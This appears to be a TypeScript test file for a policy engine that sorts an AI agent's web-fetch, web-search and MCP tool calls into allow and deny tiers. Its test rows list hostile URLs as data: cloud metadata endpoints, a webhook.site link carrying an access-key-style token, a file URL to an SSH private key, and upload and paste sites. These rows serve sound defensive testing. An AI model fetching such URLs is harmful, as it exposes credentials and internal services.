// Tests for the web rules: every example through rule.match with a real context, plus MCP URLs and combined tiers.

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { normalizeTool } from '../../../src/core/tools.ts';
import { maxTier, type Tier, type ToolCall } from '../../../src/core/types.ts';
import { createRuleContext } from '../../../src/policy/context.ts';
import type { RuleContext, RuleExample, ToolRule } from '../../../src/policy/rule.ts';
import { rules as fileRules } from '../../../src/policy/rules/files.ts';
import { rules as webRules } from '../../../src/policy/rules/web.ts';
import { rules as mcpRules } from '../../../src/policy/rules/mcp.ts';
import { testRuleExamples } from '../../helpers/rule-tester.ts';

const ctx = createRuleContext({
  cwd: '/home/dev/project',
  projectRoot: '/home/dev/project',
  home: '/home/dev',
  allowedDomains: ['api.example-corp.com'],
  defaultBranches: ['main', 'master'],
  tmpdir: '/tmp',
});

const ALL = [...fileRules, ...webRules, ...mcpRules] as ToolRule[];

function callOf(ex: { tool: string; input: Record<string, unknown> }): ToolCall {
  return { tool: normalizeTool(ex.tool, ex.input).tool, clientTool: ex.tool, input: ex.input, cwd: ctx.cwd };
}

/** Run a rule as the engine does: only for the tools it names. */
function hit(rule: ToolRule, call: ToolCall, c: RuleContext) {
  const applies = !rule.tools || rule.tools.includes(call.tool) || (call.clientTool !== undefined && rule.tools.includes(call.clientTool));
  return applies ? rule.match(call, c) : null;
}

function judge(ex: { tool: string; input: Record<string, unknown> }): { ids: string[]; tier: Tier | null } {
  const call = callOf(ex);
  const ids: string[] = [];
  let tier: Tier | null = null;
  for (const r of ALL) {
    const h = hit(r, call, ctx);
    if (!h) continue;
    ids.push(r.id);
    const t = typeof h === 'object' && h.tier !== undefined ? h.tier : r.tier;
    tier = tier === null ? t : maxTier(tier, t);
  }
  return { ids, tier };
}

function label(ex: RuleExample): string {
  return typeof ex === 'string' ? ex : `${ex.tool} ${JSON.stringify(ex.input)}`;
}

describe('every web rule keeps its examples', () => {
  for (const rule of webRules as ToolRule[]) {
    describe(rule.id, () => {
      test('has a one-line reason and both kinds of example', () => {
        assert.ok(rule.reason.length > 0 && !rule.reason.includes('\n'));
        assert.ok(rule.examples.match.length > 0 && rule.examples.notMatch.length > 0);
      });
      for (const ex of rule.examples.match) {
        test(`matches ${label(ex)}`, () => {
          assert.ok(typeof ex !== 'string');
          assert.ok(hit(rule, callOf(ex), ctx), `expected ${rule.id}`);
        });
      }
      for (const ex of rule.examples.notMatch) {
        test(`does not match ${label(ex)}`, () => {
          assert.ok(typeof ex !== 'string');
          assert.ok(!hit(rule, callOf(ex), ctx), `did not expect ${rule.id}`);
        });
      }
    });
  }
});

describe('combined tiers of web calls', () => {
  const rows: Array<[{ tool: string; input: Record<string, unknown> }, Tier | null]> = [
    [{ tool: 'WebFetch', input: { url: 'https://docs.python.org/3/library/os.html', prompt: 'x' } }, 'allow'],
    [{ tool: 'WebFetch', input: { url: 'https://raw.githubusercontent.com/o/r/main/install.sh', prompt: 'x' } }, 'allow'],
    [{ tool: 'WebFetch', input: { url: 'http://2852039166/latest/meta-data/', prompt: 'x' } }, 'hard_deny'],
    [{ tool: 'WebFetch', input: { url: 'https://webhook.site/x?d=AKIAIOSFODNN7EXAMPLE', prompt: 'x' } }, 'soft_deny'],
    [{ tool: 'WebFetch', input: { url: 'file:///home/dev/.ssh/id_rsa', prompt: 'x' } }, 'soft_deny'],
    [{ tool: 'WebFetch', input: { url: 'http://192.168.0.1/', prompt: 'x' } }, 'soft_deny'],
    [{ tool: 'WebFetch', input: { url: '::::', prompt: 'x' } }, null],
    [{ tool: 'WebFetch', input: { prompt: 'x' } }, null],
    [{ tool: 'web_fetch', input: { prompt: 'Read https://nodejs.org/api/ and http://169.254.169.254/' } }, 'hard_deny'],
    [{ tool: 'WebSearch', input: { query: 'how to use picomatch' } }, 'allow'],
    [{ tool: 'google_web_search', input: { query: 'x' } }, 'allow'],
    // URLs in MCP arguments meet the same deny rules; they never make an MCP call allowed by themselves.
    [{ tool: 'mcp__fetch__fetch', input: { url: 'http://metadata.google.internal/' } }, 'hard_deny'],
    [{ tool: 'mcp__http__request', input: { method: 'POST', url: 'https://transfer.sh/up' } }, 'soft_deny'],
    [{ tool: 'mcp__http__request', input: { method: 'GET', url: 'https://example.com/' } }, null],
    [{ tool: 'mcp__github__create_issue', input: { body: 'see https://pastebin.com/x for logs' } }, null],
  ];
  for (const [ex, tier] of rows) {
    test(`${label(ex)} is ${tier ?? 'left to the default (no finding)'}`, () => {
      const r = judge(ex);
      assert.equal(r.tier, tier, `rules: ${r.ids.join(', ')}`);
    });
  }
});

describe('finding subjects', () => {
  test('name the URL that matched', () => {
    const rule = webRules.find((r) => r.id === 'web.fetch-paste') as ToolRule;
    const h = rule.match(callOf({ tool: 'WebFetch', input: { url: 'https://0x0.st/abc', prompt: 'x' } }), ctx);
    assert.ok(h && typeof h === 'object');
    assert.equal(h.subject, 'https://0x0.st/abc');
    assert.match(h.reason ?? '', /0x0\.st/);
  });
});


// Every example again, through the whole pipeline with the full recommended pack.
testRuleExamples(webRules);
